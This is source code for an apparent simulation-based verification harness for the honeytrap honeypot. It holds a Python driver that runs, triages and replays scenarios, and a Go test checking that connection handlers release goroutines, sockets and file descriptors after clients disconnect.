    for nw in [int(x) for x in os.environ.get("VERIF_SELFTEST_LAYOUTS", "1,5,16,16").split(",")]:
        logdir = os.path.join(BUILD, "logs", "selftest-%s-%d-%d" % (prop, nw, len(runs)))
        shutil.rmtree(logdir, ignore_errors=True)
        os.makedirs(logdir)
        xe = dict(cfg.get("env") or {})
        xe["VERIF_TRACE"] = "1"
        ws = [Worker(w, prop, "quick", seed, w, n, nw, BIN, logdir, extra_env=xe) for w in range(nw)]
        while any(w.proc.poll() is None for w in ws):
            for w in ws:
                w.poll()
            time.sleep(0.05)
        res = {}
        for w in ws:
            w.poll()
            for r in w.results:
                res[r["idx"]] = (r.get("digest"), r.get("verdict"), r.get("kind"), r.get("site"))
                traces.setdefault(r["idx"], {})[r.get("digest")] = r.get("sample")
        runs.append(res)
    bad = 0
    for idx in sorted(runs[0]):
        vals = set(r.get(idx) for r in runs)
        if len(vals) != 1:
            bad += 1
            print("NONDETERMINISTIC idx=%d %s" % (idx, vals))
            tl = [t for t in traces.get(idx, {}).values() if t]
            if len(tl) >= 2 and bad <= 3:
                for x, y in zip(tl[0], tl[1]):
                    if x != y:
                        print("   A: " + str(x)[:700])
                        print("   B: " + str(y)[:700])
    print("determinism self-test %s: %d seeds x %d process layouts, %d divergent" % (prop, len(runs[0]), len(runs), bad))
    sys.exit(1 if bad else 0)

def main():
    if len(sys.argv) >= 3 and sys.argv[1] == "replay":
        return replay_cmd(sys.argv[2])
    if len(sys.argv) >= 3 and sys.argv[1] == "selftest" and sys.argv[2] == "mutants":
        # sensitivity self-test: every seeded change in a throw-away worktree against the quick check of its property
        os.execv(os.path.join(VERIF, "tools", "all_mutants.sh"), ["all_mutants.sh"] + sys.argv[3:])
    if len(sys.argv) >= 4 and sys.argv[1] == "selftest" and sys.argv[2] == "determinism":
        return selftest_determinism(sys.argv[3], int(sys.argv[4]) if len(sys.argv) > 4 else 300)
    prop, tier = sys.argv[1], (sys.argv[2] if len(sys.argv) > 2 else os.environ.get("VERIF_TIER", "quick"))
    cfg = props.get(prop)
    if cfg is None:
        infra("unknown property " + prop)
    seed = int(os.environ.get("VERIF_SEED", "1") or "1")
    t0 = time.time()
    use_scratch_tmp("%s-%s" % (prop, tier))
    build_s = build()
    ensure_template()
    use_race = cfg.get("race") and tier in cfg.get("race_tiers", ("quick", "thorough"))
    if use_race:
        build_s += build(race=True)
    logdir = os.path.join(BUILD, "logs", "%s-%s" % (prop, tier))
    shutil.rmtree(logdir, ignore_errors=True)
    os.makedirs(logdir)
    known = load_known(prop)
    known_hits = {e["id"]: 0 for e in known}
    violations = []   # (res, scenario)
    known_lines = []

    # 1. re-confirm listed findings by directed replay
    for e in known:
        rp = os.path.join(VERIF, e["replay"])
        try:
            sc = json.load(open(rp))["scenario"]
        except Exception as ex:
            infra("known finding %s: cannot read replay %s: %s" % (e["id"], rp, ex))
        res = run_single(prop, sc, tier, binpath=(RACE_BIN if e.get("race") else None))
        if res.get("verdict") == "violation" and any(match_known([e], v, sc) for v in violations_of(res)):
            known_lines.append("KNOWN-FINDING: property=%s %s [%s]" % (prop, e["what"], e["id"]))
            e["_confirmed"] = True
        else:
            e["_confirmed"] = False
            log("note: known finding %s no longer reproduces (verdict=%s kind=%s site=%s)" % (e["id"], res.get("verdict"), res.get("kind"), res.get("site")))

    # 2. exploration
    total = int(os.environ.get("VERIF_RUNS", cfg["runs"][tier]))
    budget_s = float(os.environ.get("VERIF_BUDGET_S", cfg.get("budget_s", {}).get(tier, 3600 if tier == "thorough" else 240)))
    nw = min(NCPU, max(1, total // max(1, cfg.get("min_per_worker", 8))))
    stall_s = cfg.get("stall_s", 90)
    sample_every = max(1, total // 6)
    workers = []
    for w in range(nw):
        workers.append(Worker(w, prop, tier, seed, w, total, nw, BIN, logdir, extra_env=cfg.get("env"), sample_every=sample_every))
    race_workers = []
    if use_race:
        rtotal = int(os.environ.get("VERIF_RACE_RUNS", cfg["race_runs"][tier]))
        rnw = min(NCPU, max(1, rtotal // 8))
        for w in range(rnw):
            env = dict(cfg.get("env") or {})
            env.update({"VERIF_RACE": "1", "GORACE": "halt_on_error=0 log_path=%s/race.w%d" % (logdir, w)})
            race_workers.append(Worker(100 + w, prop, tier, seed + 7919, w, rtotal, rnw, RACE_BIN, logdir, extra_env=env))
    allw = workers + race_workers
    deadline = time.time() + budget_s
    died = []
    timed_out = False
    while True:
        alive = False
        for w in allw:
            if w.done and w.proc.poll() is not None:
                continue
            w.poll()
            rc = w.proc.poll()
            if rc is None:
                alive = True
                now = time.time()
                idle_s = cfg.get("idle_s", 45)
                spun_now = w.cpu() - w.cpu_at_progress
                # budgets apply inside a run only; between runs (process start-up: storage pre-warming, slower under
                # -race and on a loaded machine) only the generous wall-clock limit below applies
                if w.open_idx is not None and ((now - w.last_progress > stall_s and spun_now > 0.5 * stall_s) or (now - w.last_progress > idle_s and spun_now < 0.05 * (now - w.last_progress))):
                    cpu = w.cpu()
                    spun = cpu - w.cpu_at_progress
                    if spun > 0.5 * stall_s:
                        w.kill()
                        w.poll()
                        if w.open_idx is None:
                            infra("worker %d stalled outside a run (cpu %.1fs)" % (w.wid, spun))
                        died.append((w, w.open_idx, w.open_seed, "runaway-handler", "worker consumed %.0f CPU-seconds in one step without quiescing" % spun))
                    else:
                        w.errf.flush()
                        dump = quit_and_dump(w.proc, w.err)
                        w.poll()
                        cls = classify_idle_hang(dump)
                        if w.open_idx is None:
                            infra("worker %d hung outside a run" % w.wid)
                        if cls is None:
                            died.append((w, w.open_idx, w.open_seed, "hang", "worker made no progress for %ds using %.1f CPU-seconds\n%s" % (int(now - w.last_progress), spun, dump[:1500])))
                        else:
                            died.append((w, w.open_idx, w.open_seed, "lock:" + cls[1], cls[2]))
                    nxt = w.open_idx + w.stride
                    w.open_idx = None
                    if nxt < w.hi:
                        w.start(nxt)
                    else:
                        w.done = True
                elif now - w.last_progress > max(4 * stall_s, 900) and w.open_idx is None:
                    w.kill()
                    infra("worker %d stalled outside a run" % w.wid)
                elif w.rss_mb() > cfg.get("rss_mb", 3000):
                    rss = w.rss_mb()
                    w.kill()
                    w.poll()
                    if w.open_idx is None:
                        infra("worker %d exceeded RSS outside a run" % w.wid)
                    died.append((w, w.open_idx, w.open_seed, "runaway-handler", "worker RSS reached %d MiB during one run" % rss))
                    nxt = w.open_idx + w.stride
                    w.open_idx = None
                    if nxt < w.hi:
                        w.start(nxt)
                    else:
                        w.done = True
            else:
                w.poll()
                if not w.done and w.open_idx is None and getattr(w, "recycle_next", None) is not None:
                    # the worker retired itself (run count / memory): continue in a fresh process
                    nxt, w.recycle_next = w.recycle_next, None
                    w.recycled = getattr(w, "recycled", 0) + 1
                    if nxt < w.hi:
                        w.start(nxt)
                        alive = True
                    else:
                        w.done = True
                    continue
                if not w.done:
                    if w.open_idx is None:
                        infra("worker %d exited rc=%s outside a run:\n%s" % (w.wid, rc, w.stderr_tail(3000)))
                    died.append((w, w.open_idx, w.open_seed, "died", w.stderr_tail()))
                    nxt = w.open_idx + w.stride
                    w.open_idx = None
                    if nxt < w.hi:
                        w.start(nxt)
                        alive = True
                    else:
                        w.done = True
        if not alive:
            break
        if time.time() > deadline:
            timed_out = True
            for w in allw:
                if w.proc.poll() is None:
                    w.kill()
                    w.poll()
            break
        time.sleep(0.05)

    results = []
    for w in allw:
        results.extend(w.results)

    # 3. triage
    cands = {}   # fingerprint -> (res, scenario, is_race): the smallest scenario showing it
    alts = {}    # fingerprint -> further scenarios showing it (tried when the first does not reproduce alone:
                 # a run can depend on process-global state left behind by the worker's earlier runs)
    def add_cand(res, sc, race=False):
        fp = fingerprint(res)
        size = len(json.dumps(sc))
        alts.setdefault(fp, []).append((size, res, sc, race))
        alts[fp] = sorted(alts[fp], key=lambda x: x[0])[:10]
        if fp not in cands or size < len(json.dumps(cands[fp][1])):
            cands[fp] = (res, sc, race)

    for r in results:
        if r.get("verdict") == "violation":
            sc = r.get("scenario")
            for v in violations_of(r):
                if v.get("kind") == "infra":
                    infra("engine reported: %s" % v.get("detail"))
                e = match_known(known, v, sc)
                if e is not None:
                    known_hits[e["id"]] += 1
                    continue
                add_cand(v, sc, race=r.get("race", False))
    for (w, idx, sd, why, text) in died:
        # regenerate the scenario of that index
        sc = emit_scenario(prop, tier, w.base, idx, w.binpath, (w.extra_env if w.wid >= 100 else cfg.get("env")))
        if why == "died":
            kind, site, _ = banner_site(text)
        elif why.startswith("lock:"):
            kind, site = "blocked-forever-on-lock", why[5:]
        else:
            kind, site = why, props.site_of(sc)
        res = {"verdict": "violation", "kind": kind, "site": site or props.site_of(sc), "detail": text[:2500], "seed": sd, "idx": idx, "class": sc.get("class")}
        if why == "hang":
            # idle without CPU and no honeytrap goroutine waiting for a lock: the process sat in the operating system
            # (seen: fsync of the file channel on a disk busy with other work).  Only if the scenario does the same
            # alone in a fresh process is it the scenario's doing - and then still infrastructure, not a verdict.
            again = run_single(prop, sc, tier, binpath=w.binpath, extra_env=(w.extra_env if w.wid >= 100 else None))
            if again.get("verdict") in ("ok", "violation"):
                log("note: worker idle at idx=%s did not repeat alone (verdict %s); not attributed" % (idx, again.get("verdict")))
                UNATTRIBUTED.append(res)
                if again.get("verdict") == "violation":
                    for v in violations_of(again):
                        if match_known(known, v, sc) is None:
                            add_cand(v, sc, race=(w.wid >= 100))
                continue
            infra("worker hung without using CPU at %s idx=%s seed=%s: %s" % (prop, idx, sd, text[-800:]))
        e = match_known(known, res, sc)
        if e is not None:
            known_hits[e["id"]] += 1
            continue
        add_cand(res, sc, race=(w.wid >= 100))

    reported = []
    unattributed = UNATTRIBUTED
    done_fps = set()
    for fp, (res, sc, race) in sorted(cands.items()):
        binp = RACE_BIN if race else BIN
        xenv = {"VERIF_RACE": "1"} if race else None
        # confirm in a fresh process
        again = run_single(prop, sc, tier, binpath=binp, extra_env=xenv)
        if pick_fp(again, fp) is not None:
            again = pick_fp(again, fp)
        if again.get("verdict") != "violation":
            # this scenario does not show it alone; other scenarios with the same fingerprint may
            for (_, res2, sc2, race2) in alts.get(fp, [])[1:]:
                binp2 = RACE_BIN if race2 else BIN
                xenv2 = {"VERIF_RACE": "1"} if race2 else None
                again2 = run_single(prop, sc2, tier, binpath=binp2, extra_env=xenv2)
                if pick_fp(again2, fp) is not None:
                    again2 = pick_fp(again2, fp)
                if again2.get("verdict") == "violation" and fingerprint(again2) == fp:
                    log("note: candidate idx=%s did not reproduce alone, idx=%s with the same fingerprint does" % (res.get("idx"), res2.get("idx")))
                    res, sc, race, binp, xenv, again = res2, sc2, race2, binp2, xenv2, again2
                    break
        if again.get("verdict") != "violation" and res.get("_seq") and res.get("idx") is not None and res.get("kind") not in ("runaway-handler", "concurrent-map-access"):
            # still nothing: the run may depend on state the worker's earlier runs left in the process (package-level
            # variables, pools).  Replay it behind the runs that preceded it in its worker, doubling the history.
            base_w, lo_w, stride_w = res["_seq"]
            k = 1
            while k <= 128:
                frm = max(lo_w, res["idx"] - k * stride_w)
                pre = emit_scenarios(prop, tier, base_w, frm, res["idx"], stride_w, binp, (xenv or cfg.get("env")))
                sc3 = dict(sc, prefix=pre)
                again3 = run_single(prop, sc3, tier, binpath=binp, extra_env=xenv, timeout=900)
                if pick_fp(again3, fp) is not None:
                    again3 = pick_fp(again3, fp)
                if again3.get("verdict") == "violation" and fingerprint(again3) == fp:
                    log("note: candidate idx=%s reproduces behind %d earlier runs of its worker (process-global state)" % (res.get("idx"), len(pre)))
                    sc, again = sc3, again3
                    break
                if frm == lo_w:
                    break
                k *= 2
        if again.get("verdict") != "violation" or fingerprint(again) != fp:
            # second chance: the fingerprint may legitimately differ in detail; accept same kind
            if again.get("verdict") == "violation":
                fp2 = fingerprint(again)
                log("note: fingerprint moved on confirmation: %s -> %s" % (fp, fp2))
                fp = fp2
                res = again
            elif same_step_concurrency(sc) and not any(run_single(prop, sc, tier, binpath=binp, extra_env=xenv).get("verdict") == "violation" for _ in range(2)):
                # Scenarios that release several deliveries in one step (batch bit) or use yield points have more than
                # one runnable handler at a time.  The Go runtime's monitor thread can force a goroutine switch when a
                # thread was off the CPU for >10 ms (loaded machine); that rare reordering is legal behaviour of the
                # system but not a function of the scenario.  A candidate from such a run that does not show in three
                # fresh processes is schedule noise: counted in the evidence, neither reported nor an error.
                log("note: candidate %s at idx=%s (same-step concurrency) did not reproduce in 3 fresh processes; not attributed" % (res.get("kind"), res.get("idx")))
                unattributed.append(res)
                continue
            elif res.get("kind") == "concurrent-map-access":
                # the race detector also pairs an access of this run with one made by a goroutine of an EARLIER run of
                # the same worker process (package-level maps): those two handlers never ran at the same time.  Only a
                # report that reproduces in a fresh process with this scenario alone is a same-step conflict.
                log("note: race report at idx=%s did not reproduce alone (pairs with an earlier run's goroutine); not attributed" % res.get("idx"))
                unattributed.append(res)
                continue
            elif res.get("kind") == "runaway-handler":
                # the RSS of a worker is cumulative over its runs, and CPU seconds per step inflate on a heavily
                # loaded machine: a budget kill that does not reproduce alone in a fresh process is not a property
                # of this scenario.  It is counted in the evidence, never reported, and is no infrastructure error.
                log("note: budget kill (%s) at idx=%s did not reproduce alone; not attributed" % ((res.get("detail") or "")[:80], res.get("idx")))
                unattributed.append(res)
                continue
            else:
                infra("candidate violation did not reproduce in a fresh process: property=%s kind=%s site=%s seed=%s idx=%s\n%s" % (prop, res.get("kind"), res.get("site"), res.get("seed"), res.get("idx"), (res.get("detail") or "")[:1500]))
        if fp in done_fps:
            continue
        done_fps.add(fp)
        small, spent = minimise(prop, sc, fp, budget=cfg.get("min_budget", 100), binpath=binp, extra_env=xenv)
        final = run_single(prop, small, tier, binpath=binp, extra_env=xenv)
        if pick_fp(final, fp) is not None:
            final = pick_fp(final, fp)
        if final.get("verdict") != "violation" or fingerprint(final) != fp:
            small, final = sc, again
        e = match_known(known, final, small)
        if e is not None:
            known_hits[e["id"]] += 1
            continue
        h = hashlib.sha1(("%s|%s|%s" % (prop, fp[0], fp[1])).encode()).hexdigest()[:10]
        os.makedirs(os.path.join(OUTDIR, "replays"), exist_ok=True)
        rp = os.path.join(OUTDIR, "replays", "%s-%s.json" % (prop, h))
        json.dump({"engine_version": 1, "property": prop, "tier": tier, "seed": res.get("seed"), "idx": res.get("idx"),
                   "fingerprint": {"kind": fp[0], "site": fp[1]}, "traits": final.get("traits"), "detail": final.get("detail"),
                   "race": race, "minimise_runs": spent, "scenario": small}, open(rp, "w"), indent=1)
        reported.append((fp, rp, final))

    # 4. evidence
    wall = time.time() - t0
    write_evidence(prop, tier, seed, cfg, results, died, known, known_hits, reported, wall, build_s, timed_out, total, use_race)
    for l in known_lines:
        print(l)
    for e in known:
        if e.get("_confirmed") and known_hits.get(e["id"], 0):
            log("  known finding %s: matched %d explored runs" % (e["id"], known_hits[e["id"]]))
    ok = sum(1 for r in results if r.get("verdict") == "ok")
    log("%s %s: %d scenarios (%d ok), %d known-finding hits, %d new violation fingerprints, %.1fs" % (prop, tier, len(results), ok, sum(known_hits.values()), len(reported), wall))
    if reported:
        for fp, rp, final in reported:
            print("VIOLATION property=%s replay=%s kind=%s site=%s" % (prop, rp, fp[0], fp[1]))
            log("  detail: " + (final.get("detail") or "")[:1200])
        sys.exit(1)
    sys.exit(0)

UNATTRIBUTED = []

def use_scratch_tmp(tag):
    """every temporary file of this invocation (worker data dirs, per-run directories, single-run scratch) lives
    under one directory below the build dir, which is removed when the driver exits - also after kills"""
    import atexit
    d = os.path.join(BUILD, "tmp-%s-%d" % (tag, os.getpid()))
    shutil.rmtree(d, ignore_errors=True)
    os.makedirs(d, exist_ok=True)
    os.environ["TMPDIR"] = d
    tempfile.tempdir = d
    atexit.register(lambda: (_kill_children(), shutil.rmtree(d, ignore_errors=True)))

def emit_scenarios(prop, tier, base, frm, to, stride, binpath, extra_env):
    """the scenarios a worker generated for indices frm, frm+stride, ... < to"""
    d = tempfile.mkdtemp(prefix="htsim-emit-")
    try:
        out = os.path.join(d, "o.jsonl")
        env = worker_env({"VERIF_PROP": prop, "VERIF_TIER": tier, "VERIF_SEEDS": "%d:%d:%d" % (base, frm, to), "VERIF_STRIDE": str(stride), "VERIF_EMIT": "1", "VERIF_OUT": out})
        if extra_env:
            env.update(extra_env)
        subprocess.run([binpath, "-test.run", "^TestWorker$"], env=env, cwd=d, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=600)
        return [json.loads(line)["sc"] for line in open(out) if '"scenario"' in line]
    finally:
        shutil.rmtree(d, ignore_errors=True)

def emit_scenario(prop, tier, base, idx, binpath, extra_env):
    d = tempfile.mkdtemp(prefix="htsim-emit-")
    try:
        out = os.path.join(d, "o.jsonl")
        env = worker_env({"VERIF_PROP": prop, "VERIF_TIER": tier, "VERIF_SEEDS": "%d:%d:%d" % (base, idx, idx + 1), "VERIF_EMIT": "1", "VERIF_OUT": out})
        if extra_env:
            env.update(extra_env)
        subprocess.run([binpath, "-test.run", "^TestWorker$"], env=env, cwd=d, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=300)
        for line in open(out):
            x = json.loads(line)
            if x.get("t") == "scenario":
                return x["sc"]
    finally:
        shutil.rmtree(d, ignore_errors=True)
    infra("could not regenerate scenario %s idx=%d" % (prop, idx))

def write_evidence(prop, tier, seed, cfg, results, died, known, known_hits, reported, wall, build_s, timed_out, total, use_race):
    digests = set()
    nontriv = set()
    faults, probes, classes = {}, {}, {}
    runs = 0
    sim_ms = 0
    steps = 0
    samples = []
    for r in results:
        runs += r.get("runs", 1)
        sim_ms += r.get("sim_ms", 0)
        steps += r.get("steps", 0)
        dg = r.get("digest")
        if dg:
            digests.add(dg)
            if r.get("nontrivial"):
                nontriv.add(dg)
        for k, v in (r.get("faults") or {}).items():
            faults[k] = faults.get(k, 0) + v
        for k, v in (r.get("probes") or {}).items():
            probes[k] = probes.get(k, 0) + v
        c = r.get("class") or ""
        classes[c] = classes.get(c, 0) + 1
        if r.get("sample") is not None and len(samples) < 6:
            samples.append(r["sample"])
    if not samples:
        for r in results[:3]:
            samples.append({"seed": r.get("seed"), "class": r.get("class"), "digest": r.get("digest")})
    ev = {
        "property_id": prop,
        "tier": tier,
        "seed": seed,
        "level": cfg.get("level", "exploration"),
        "coverage": {
            "evaluations": runs,
            "scenarios": len(results),
            "distinct_nontrivial": len(nontriv),
            "distinct_traces": len(digests),
            "rule": cfg["rule"],
            "samples": samples,
            "simulated_seconds": round(sim_ms / 1000.0, 1),
            "scheduler_steps": steps,
            "runs_per_hour": int(runs / max(wall - build_s, 0.001) * 3600),
            "seeds_per_hour": int(len(results) / max(wall - build_s, 0.001) * 3600),
            "fault_firings": faults,
            "probes": probes,
            "scenario_classes": classes,
            "components": cfg.get("components", {}),
            "workers_died_or_killed": len(died),
            "candidates_not_attributed": len(UNATTRIBUTED),
            "known_findings": [{"id": e["id"], "confirmed_by_replay": bool(e.get("_confirmed")), "matched_runs": known_hits.get(e["id"], 0)} for e in known],
            "violation_fingerprints": [{"kind": fp[0], "site": fp[1], "replay": rp} for fp, rp, _ in reported],
            "budget_exhausted": timed_out,
            "requested_scenarios": total,
            "race_tier": bool(use_race),
            "exhaustive": False,
        },
        "assumptions": cfg.get("assumptions", []),
        "wall_s": round(wall, 1),
        "violations": len(reported),
    }
    os.makedirs(os.path.join(OUTDIR, "evidence"), exist_ok=True)
    p = os.path.join(OUTDIR, "evidence", "%s.json" % prop)
    if len(nontriv) < 2 or runs < 1:
        # an evidence file that would not validate is infrastructure trouble, not a result
        json.dump(ev, open(p, "w"), indent=1)
        if not reported:
            infra("exploration too thin to count as evidence (runs=%d distinct_nontrivial=%d)" % (runs, len(nontriv)))
    json.dump(ev, open(p, "w"), indent=1)

def replay_cmd(path):
    data = json.load(open(path))
    prop = data["property"]
    use_scratch_tmp("replay")
    build()
    ensure_template()
    race = data.get("race")
    if race:
        build(race=True)
    res = run_single(prop, data["scenario"], data.get("tier", "quick"), binpath=(RACE_BIN if race else BIN), extra_env=({"VERIF_RACE": "1"} if race else None))
    fp = data.get("fingerprint", {})
    hit = pick_fp(res, (fp.get("kind"), fp.get("site")))
    if hit is not None:
        res = hit
    if res.get("verdict") == "violation" and res.get("kind") == fp.get("kind") and res.get("site") == fp.get("site"):
        print("VIOLATION property=%s replay=%s kind=%s site=%s" % (prop, path, fp.get("kind"), fp.get("site")))
        print((res.get("detail") or "")[:3000])
        sys.exit(1)
    print("replay did not reproduce the recorded fingerprint: got verdict=%s kind=%s site=%s" % (res.get("verdict"), res.get("kind"), res.get("site")))
    sys.exit(0)

if __name__ == "__main__":
    main()
