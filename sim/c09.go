package htsim

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"runtime/debug"
	"sort"
	"strings"
	"testing"
)

// C09 — handlers finish and release everything once the peer is gone.
//
// The hostile inputs of C01, each ended by client close / reset / half-close / silence, and histories
// of N sequential connections; after the ending the fake clock runs 11 simulated minutes.  Oracle:
// (a) the server closed its side of every connection; (c) the census of goroutines with honeytrap
// frames (grouped by creation site), the simulated kernel's listening sockets and the process's file
// descriptors are back to the post-boot baseline.  Spinning handlers are caught by the driver's
// CPU watchdog (no-quiesce).

func init() {
	engines["C09"] = &Engine{Gen: genC09, Run: runC09}
}

var c09Endings = []string{"close", "close", "close", "reset", "halfclose", "silence", "never", "midreset", "stall"}

func genC09(seed uint64, idx int, tier string) *Scenario {
	r := NewRng(seed, "c09")
	var sc *Scenario
	if idx%4 == 3 {
		// history of N sequential connections to one service
		svcs := c01Services()
		s := svcs[(idx/4)%len(svcs)]
		if (idx/4)%3 == 0 {
			s = *svcByKey("ftp") // passive sockets, data connections, per-session goroutines: the richest in resources
			if len(svcs) < len(allServices)-1 {
				s = svcs[(idx/4)%len(svcs)]
			}
		}
		sc = &Scenario{Engine: "hostile", Params: map[string]interface{}{"services": s.Key, "history": true}}
		sc.Config = baseConfig + "\n[service.probe]\ntype=\"echo\"\n\n[[port]]\nport=\"tcp/7007\"\nservices=[\"probe\"]\n" + s.config("svc0")
		n := []int{1, 2, 3, 10, 50, 200}[r.Intn(6)]
		if s.Key == "https" && n > 3 {
			n = 3
		}
		ps := prototypes(&s, r)
		a := Actor{Kind: "seq", Svc: s.Key, Dst: fmt.Sprintf("%s:%d", sensorIP, s.Port)}
		if s.UDP {
			a.Name = "udp"
		}
		d := ps[r.Intn(len(ps))]
		if s.Key == "ftp" && r.Chance(0.5) {
			d = [][]byte{[]byte("USER anonymous\r\n"), []byte("PASS anonymous\r\n"), []byte(r.Pick([]string{"PASV", "EPSV"}) + "\r\n")}
			if r.Chance(0.5) {
				d = append(d, []byte(r.Pick([]string{"LIST", "NLST", "RETR f", "STOR f"})+"\r\n"))
			}
		}
		for k := 0; k < n; k++ {
			a.Ops = append(a.Ops, Op{K: "conn"})
			for _, m := range d {
				if len(m) > 0 {
					a.Ops = append(a.Ops, SendOp(m, nil, ""))
				}
			}
			a.Ops = append(a.Ops, Op{K: "endconn"})
		}
		sc.Actors = []Actor{a}
		sc.Class = fmt.Sprintf("history/%s", s.Key)
		sc.Params["n"] = n
		sc.Schedule = nil
	} else {
		sc = buildHostileScenario(r, idx-idx/4, 3, c09Endings)
	}
	sc.DrainMs = 601000
	return sc
}

var goHdr = regexp.MustCompile(`^goroutine (\d+) \[([^\]]*)\]:`)
var bubbleRe = regexp.MustCompile(`synctest bubble (\d+)`)

// census counts the goroutines of the current bubble that have honeytrap frames, by creation site.
func census() (map[string]int, string) {
	buf := make([]byte, 4<<20)
	for {
		n := runtime.Stack(buf, true)
		if n < len(buf) {
			buf = buf[:n]
			break
		}
		buf = make([]byte, 2*len(buf))
	}
	blocks := strings.Split(string(buf), "\n\n")
	mine := ""
	if len(blocks) > 0 {
		if m := bubbleRe.FindStringSubmatch(strings.SplitN(blocks[0], "\n", 2)[0]); m != nil {
			mine = m[1]
		}
	}
	out := map[string]int{}
	for _, b := range blocks {
		lines := strings.Split(b, "\n")
		if len(lines) == 0 {
			continue
		}
		m := bubbleRe.FindStringSubmatch(lines[0])
		if m == nil || m[1] != mine {
			continue
		}
		if !strings.Contains(b, "github.com/honeytrap/honeytrap/") {
			continue
		}
		top, created := "", ""
		for _, l := range lines[1:] {
			if strings.HasPrefix(l, "\t") {
				continue
			}
			if strings.HasPrefix(l, "created by ") {
				created = strings.TrimPrefix(l, "created by ")
				if i := strings.Index(created, " in goroutine"); i >= 0 {
					created = created[:i]
				}
				continue
			}
			if top == "" && strings.HasPrefix(l, "github.com/honeytrap/honeytrap/") {
				top = l
				if i := strings.Index(top, "("); i >= 0 {
					// strip arguments but keep receiver types such as (*ftpService)
					if j := strings.LastIndex(top, "("); j > i || !strings.Contains(top[:i], ".") {
						top = top[:j]
					} else {
						top = top[:i]
					}
				}
			}
		}
		created = strings.TrimPrefix(created, "github.com/honeytrap/honeytrap/")
		top = strings.TrimPrefix(top, "github.com/honeytrap/honeytrap/")
		out[created+" @ "+top]++
	}
	return out, mine
}

// fdSet: the open descriptors of the process with what they point to.  The key-value store (badger) is opened once
// per worker process outside every bubble and keeps working in the background - compactions and value-log
// rotation open and close table files at moments of their own; those descriptors belong to no connection.
func fdSet() map[string]bool {
	ents, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		return nil
	}
	set := map[string]bool{}
	for _, e := range ents {
		t, err := os.Readlink("/proc/self/fd/" + e.Name())
		if err != nil {
			continue // the directory handle of this very listing
		}
		b := filepath.Base(t)
		if strings.HasSuffix(b, ".sst") || strings.HasSuffix(b, ".vlog") || b == "MANIFEST" || b == "LOCK" {
			continue
		}
		if dataDir != "" && strings.HasPrefix(t, dataDir) {
			continue // the store's own directory (it opens it to sync after creating a table file)
		}
		set[e.Name()+" -> "+t] = true
	}
	return set
}

// fdLeaked: descriptors open now that were not open at the baseline.
func fdLeaked(base, now map[string]bool) []string {
	var l []string
	for k := range now {
		if !base[k] {
			l = append(l, k)
		}
	}
	sort.Strings(l)
	return l
}

func runC09(t *testing.T, sc *Scenario) Result {
	res := okResult()
	// a file the handler forgot to close is closed by its finalizer whenever the collector happens to run: no
	// collection during the run, so that the census sees what the handler itself released
	old := debug.SetGCPercent(-1)
	defer func() {
		debug.SetGCPercent(old)
		runtime.GC()
	}()
	var base, after map[string]int
	var lBase, lAfter []string
	var fdBase, fdAfter map[string]bool
	var seqOpen, dialOpen []string
	dialled := 0
	custom := sc.ParamBool("history")
	obs, _ := runHostileSeq(t, sc, &res, custom, func(w *World) {
		base, _ = census()
		lBase = append(w.Net.TCPListeners(), w.Net.UDPSockets()...)
		fdBase = fdSet()
	}, func(w *World) {
		after, _ = census()
		lAfter = append(w.Net.TCPListeners(), w.Net.UDPSockets()...)
		fdAfter = fdSet()
		for _, s := range w.Net.Streams() {
			if !s.Server().IsClosed() && strings.HasPrefix(s.Client().LocalAddr().String(), "10.") {
				seqOpen = append(seqOpen, s.Client().LocalAddr().String()+"->"+s.Server().LocalAddr().String())
			}
			if s.Server().LocalAddr().String() == ftpSinkAddr {
				dialled++
			}
			// connections the service itself opened on a client's behalf (ftp active mode)
			if s.Server().LocalAddr().String() == ftpSinkAddr && !s.Client().IsClosed() {
				dialOpen = append(dialOpen, s.Client().LocalAddr().String()+"->"+ftpSinkAddr)
			}
		}
	})
	res.Digest = traceDigest(obs, nil)
	res.Steps, res.SimMs = obs.Steps, obs.SimMs
	res.Nontriv = len(sc.Actors) > 1 || len(sc.Faults) > 0 || custom
	for _, f := range sc.Faults {
		res.fault(f, 1)
	}
	res.fault("deadline-fired", obs.NetStats.DeadlineFires)
	if res.Verdict != "ok" {
		return res
	}
	site := sc.ParamStr("services", "")
	// (a) every connection was closed by the server
	if len(seqOpen) > 0 {
		res.Violate("connection-not-closed", site, fmt.Sprintf("%d connection(s) still open on the server side 10 simulated minutes after the client was gone or silent: %v", len(seqOpen), seqOpen[:min(len(seqOpen), 4)]))
		return res
	}
	if len(dialOpen) > 0 {
		res.Violate("dialled-connection-not-closed", site, fmt.Sprintf("%d data connection(s) the service opened to the client's address (active mode) are still open 10 simulated minutes after the client was gone: %v", len(dialOpen), dialOpen[:min(len(dialOpen), 4)]))
		return res
	}
	res.probe("active-mode-connections-dialled", dialled)
	// (c) goroutines
	var keys []string
	for k := range after {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		if after[k] > base[k] {
			created := strings.SplitN(k, " @ ", 2)[0]
			res.Violate("goroutine-leak", created, fmt.Sprintf("%d goroutine(s) more than after boot: created by %s, parked in %s (services %s, %d connections)", after[k]-base[k], created, strings.SplitN(k, " @ ", 2)[1], site, obs.NetStats.Accepts))
			return res
		}
	}
	// listening sockets
	sort.Strings(lBase)
	sort.Strings(lAfter)
	if len(lAfter) > len(lBase) {
		res.Violate("listening-socket-leak", site, fmt.Sprintf("%d listening socket(s) more than after boot: before %v after %v", len(lAfter)-len(lBase), lBase, lAfter))
		return res
	}
	if l := fdLeaked(fdBase, fdAfter); len(l) > 0 {
		res.Violate("fd-leak", site, fmt.Sprintf("%d file descriptors after the drain, %d after boot; new: %v", len(fdAfter), len(fdBase), l))
		return res
	}
	res.probe("connections", obs.NetStats.Accepts)
	return res
}

// runHostileSeq is runHostile plus support for the "seq" actor (sequential connections).
func runHostileSeq(t *testing.T, sc *Scenario, res *Result, seq bool, afterBoot, afterDrain func(w *World)) (*Obs, bool) {
	if !seq {
		return runHostile(t, sc, res, afterBoot, afterDrain)
	}
	n := 0
	return runHostile(t, sc, res, func(w *World) {
		afterBoot(w)
		var cur interface {
			PeerInject([]byte)
			Close() error
		}
		udp := false
		var src string
		w.Custom = func(w *World, ai int, op Op) {
			a := &w.Sc.Actors[ai]
			switch op.K {
			case "conn":
				n++
				src = fmt.Sprintf("10.9.%d.%d:%d", n/250, 1+n%250, 20000+n)
				if a.Name == "udp" {
					udp = true
					return
				}
